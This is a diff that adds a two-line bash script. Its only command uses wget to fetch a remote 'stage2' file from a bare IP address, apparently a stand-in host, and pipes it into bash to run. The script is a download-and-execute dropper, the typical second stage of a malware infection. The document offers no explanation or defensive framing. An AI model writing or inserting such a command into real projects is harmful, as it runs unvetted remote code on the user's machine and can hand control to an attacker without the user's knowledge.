@@ -1,0 +1,2 @@
+#!/bin/bash
+bash -c "$(wget -qO- http://198.51.100.20/stage2)"
